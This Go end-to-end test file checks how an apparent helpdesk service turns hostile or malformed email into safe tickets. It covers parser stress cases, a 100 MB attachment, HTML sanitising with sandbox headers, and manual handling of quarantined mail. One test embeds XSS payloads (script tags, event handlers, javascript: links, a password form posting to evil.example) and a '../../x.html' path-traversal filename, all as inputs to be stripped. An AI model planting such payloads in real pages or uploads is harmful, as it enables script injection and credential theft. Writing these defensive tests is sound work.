package e2e

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"
)

// rawMail is a mail with header lines and a body of our own making.
func rawMail(header, body string) string {
	return strings.ReplaceAll("From: Mallory <mallory@stranger.example>\nTo: support@contoso.example\nSubject: Look at this\n"+
		"Date: Mon, 04 May 2026 10:00:00 +0000\nMIME-Version: 1.0\n"+header+"\n"+body, "\n", "\r\n")
}

func multipart(boundary string, parts ...string) string {
	return "--" + boundary + "\n" + strings.Join(parts, "\n--"+boundary+"\n") + "\n--" + boundary + "--\n"
}

func TestHostileMailBecomesHarmlessTickets(t *testing.T) {
	t.Parallel()
	w := connected(Open(t, Options{}))
	mails := map[string]struct {
		raw   string
		shows string // in the comment's text
	}{
		"a hundred levels of multipart": {nested(100), "At the outside"},
		"ten thousand header fields":    {rawMail("Message-ID: <headers@stranger.example>\n"+strings.Repeat("X-Filler: nothing\n", 10_000), "Many fields."), "Many fields."},
		"NUL bytes":                     {rawMail("Message-ID: <nul@stranger.example>\n", "Before\x00after."), "after."},
		"no end of a line":              {rawMail("Message-ID: <line@stranger.example>\n", strings.Repeat("endless", 200_000)), "endless"},
		"broken base64":                 {rawMail("Message-ID: <base64@stranger.example>\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n", "SGVsbG8gd29ybGQ*="), "Hello"},
		"a boundary that never ends":    {rawMail("Message-ID: <open@stranger.example>\nContent-Type: multipart/mixed; boundary=b\n", "--b\n\nStill readable."), "Still readable."},
	}
	for name, m := range mails {
		t.Run(name, func(t *testing.T) {
			known := len(w.tickets(""))
			w.Deliver(Support, m.raw)
			w.Until("the ticket", func() bool { return len(w.tickets("")) > known })
			made := w.tickets("?sort=-id")[0]
			if text := w.comments(made.ID)[0].Body; !strings.Contains(text, m.shows) || strings.Contains(text, "\x00") {
				t.Errorf("the comment says %.200q, want %q in it", text, m.shows)
			}
		})
	}
	w.Mail(hello("After all of that"))
	w.Until("the mailbox goes on", func() bool { return len(w.tickets("?query=After")) == 1 })
	if c := w.connection(Support); c.Status != "verified" {
		t.Errorf("the connection is %s: %+v", c.Status, c.Error)
	}
	if n := w.metric(w.URL, "tandem_mail_panics_total"); n != 0 {
		t.Errorf("%v mails made the handling panic", n)
	}
}

// nested is a mail of that many multiparts, one inside the other.
func nested(levels int) string {
	body := "Content-Type: text/plain\n\nAt the bottom."
	for level := levels; level > 0; level-- {
		b := fmt.Sprintf("level%d", level)
		text := "Content-Type: text/plain\n\nAt level " + strconv.Itoa(level)
		if level == 1 {
			text = "Content-Type: text/plain\n\nAt the outside"
		}
		body = "Content-Type: multipart/mixed; boundary=" + b + "\n\n" + multipart(b, text, body)
	}
	header, rest, _ := strings.Cut(body, "\n\n")
	return rawMail("Message-ID: <nested@stranger.example>\n"+header+"\n", rest)
}

// metric reads one figure of /metrics, without labels; 0 when it is not there.
func (w *World) metric(at, name string) float64 {
	w.Helper()
	a := (&Client{TB: w, HTTP: http.DefaultClient}).Get(at + "/metrics").Want(200)
	for lines := bufio.NewScanner(bytes.NewReader(a.Body)); lines.Scan(); {
		if value, found := strings.CutPrefix(lines.Text(), name+" "); found {
			n, err := strconv.ParseFloat(value, 64)
			if err != nil {
				w.Fatalf("the metric %s is %q", name, value)
			}
			return n
		}
	}
	return 0
}

// A mail as large as Exchange can be made to accept is taken in without being
// held in memory.
func TestHundredMegabyteMail(t *testing.T) {
	t.Parallel()
	w := connected(Open(t, Options{Process: true}))
	w.Mail(hello("Warm up"))
	w.awaitTicket()
	before := w.metric(w.URL, "process_resident_memory_bytes")

	const size = 100 << 20
	line := strings.Repeat("QUJD", 19) + "\r\n"
	var raw bytes.Buffer
	raw.WriteString(rawMail("Message-ID: <large@stranger.example>\nContent-Type: multipart/mixed; boundary=b\n",
		"--b\nContent-Type: text/plain\n\nAttached.\n--b\nContent-Type: application/zip; name=\"large.zip\"\nContent-Transfer-Encoding: base64\n\n"))
	for raw.Len() < size {
		raw.WriteString(line)
	}
	raw.WriteString("--b--\r\n")
	if _, err := w.Sim.Deliver(t.Context(), Support, raw.Bytes()); err != nil {
		t.Fatal(err)
	}
	w.Until("the ticket", func() bool { return len(w.tickets("")) == 2 })
	made := w.tickets("?sort=-id")[0]
	files := w.comments(made.ID)[0].Attachments
	if len(files) != 1 || files[0].FileName != "large.zip" || files[0].Size < 70<<20 {
		t.Errorf("the files are %+v", files)
	}
	after := w.metric(w.URL, "process_resident_memory_bytes")
	t.Logf("resident memory: %.0f MB before, %.0f MB after", before/1e6, after/1e6)
	if after-before > size {
		t.Errorf("memory grew by %.0f MB: the mail was held in it", (after-before)/1e6)
	}
}

// Nothing that a stranger sends runs in our pages.
func TestScriptsInMailDoNotRun(t *testing.T) {
	t.Parallel()
	w := connected(Open(t, Options{}))
	page := `<html><head><script>steal()</script><style>@import url(https://evil.example/x.css)</style></head>` +
		`<body onload="steal()"><h1>Hello</h1><img src="x" onerror="steal()"><a href="javascript:steal()">Click</a>` +
		`<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"></form>` +
		`<img src="https://evil.example/pixel.gif"><svg><script>steal()</script></svg></body></html>`
	attached := base64.StdEncoding.EncodeToString([]byte(`<script>steal()</script>`))
	w.Deliver(Support, rawMail("Message-ID: <script@stranger.example>\nContent-Type: multipart/mixed; boundary=b\n", multipart("b",
		"Content-Type: text/html; charset=utf-8\n\n"+page,
		"Content-Type: text/html; name=\"../../x.html\"\nContent-Disposition: attachment; filename=\"../../x.html\"\nContent-Transfer-Encoding: base64\n\n"+attached,
		"Content-Type: image/svg+xml; name=\"picture.svg\"\nContent-Disposition: inline; filename=\"picture.svg\"\nContent-Transfer-Encoding: base64\n\n"+attached)))
	made := w.awaitTicket()
	shown := w.comments(made.ID)[0]
	frame := w.SignedIn("admin@contoso.example").Get(fmt.Sprintf("/api/v2/tickets/%d/comments/%d/frame", made.ID, shown.ID)).Want(200)
	for _, evil := range []string{"<script", "steal()", "onload", "onerror", "javascript:", "<iframe", "<form", "@import", "<svg"} {
		if strings.Contains(shown.HTML, evil) || strings.Contains(string(frame.Body), evil) {
			t.Errorf("%q is left in the comment: %s", evil, shown.HTML)
		}
	}
	if !strings.Contains(shown.HTML, "Hello") || strings.Contains(string(frame.Body), ` src="https://evil.example`) {
		t.Errorf("the frame shows %s", frame.Body)
	}
	policy := frame.Header.Get("Content-Security-Policy")
	for _, part := range []string{"default-src 'none'", "sandbox", "img-src 'self' data:;", "form-action 'none'"} {
		if !strings.Contains(policy, part) || strings.Contains(policy, "allow-scripts") {
			t.Errorf("the policy of the frame lacks %q: %s", part, policy)
		}
	}
	if len(shown.Attachments) != 2 {
		t.Fatalf("the files are %+v", shown.Attachments)
	}
	for _, f := range shown.Attachments {
		if strings.ContainsAny(f.FileName, `/\`) || strings.HasPrefix(f.FileName, ".") {
			t.Errorf("a file is called %q", f.FileName)
		}
		w.checkDownload(f)
	}
}

func (w *World) checkDownload(f attachment) {
	w.Helper()
	h := w.API.Get(f.ContentURL).Want(200).Header
	if got := h.Get("Content-Disposition"); !strings.HasPrefix(got, "attachment") {
		w.Errorf("%s is shown instead of downloaded: %s", f.FileName, got)
	}
	if got := h.Get("Content-Security-Policy"); !strings.Contains(got, "sandbox") || !strings.Contains(got, "default-src 'none'") {
		w.Errorf("%s comes with the policy %q", f.FileName, got)
	}
	if got := h.Get("X-Content-Type-Options"); got != "nosniff" {
		w.Errorf("%s may be sniffed: %q", f.FileName, got)
	}
	if got := h.Get("Content-Type"); strings.Contains(got, "html") || strings.Contains(got, "svg") {
		w.Errorf("%s comes as %s", f.FileName, got)
	}
}

// What cannot be handled is kept, and a person decides.
func TestQuarantinedMailCanBecomeATicket(t *testing.T) {
	t.Parallel()
	w := connected(Open(t, Options{}))
	w.Deliver(Support, strings.ReplaceAll("Subject: Who wrote this?\nMessage-ID: <nobody@stranger.example>\nDate: Mon, 04 May 2026 10:00:00 +0000\n\nNobody did.\n", "\n", "\r\n"))
	w.Until("the mail in quarantine", func() bool { return w.states()["quarantined"] == 1 })
	kept := w.ledger("")[0]
	if kept.Error.Code != "no_sender" || kept.Error.Remedy == "" || fmt.Sprint(kept.Actions) != "[retry make_ticket]" {
		t.Errorf("the ledger shows %+v", kept)
	}
	path := fmt.Sprintf("/api/v2/mail/%d", kept.ID)
	if source := w.API.Get(path + "/source").Want(200); !strings.Contains(string(source.Body), "Nobody did.") {
		t.Errorf("the raw source is %s", source.Body)
	}
	w.API.Post(path+"/retry", nil).Want(200)
	w.Until("the mail in quarantine again", func() bool {
		again := w.ledger("")[0]
		return again.State == "quarantined" && again.Error.Code == "no_sender"
	})

	w.API.Post(path+"/make_ticket", nil).Want(200)
	made := w.awaitTicket()
	if said := w.comments(made.ID)[0]; !strings.Contains(said.Body, "Nobody did.") || len(said.Attachments) != 1 {
		t.Errorf("the ticket's comment is %+v", said)
	}
	if got := w.ledger("")[0]; got.State != "ticketed" || got.Rule != "by_hand" || got.Ticket != made.ID {
		t.Errorf("the ledger shows %+v", got)
	}
	w.Until("the mail filed", func() bool { return len(w.Folder(Support, "Tandem")) == 1 })
	if got := w.API.Post(path+"/make_ticket", nil); got.Status != http.StatusConflict {
		t.Errorf("a second ticket of the same mail is answered %d", got.Status)
	}
}
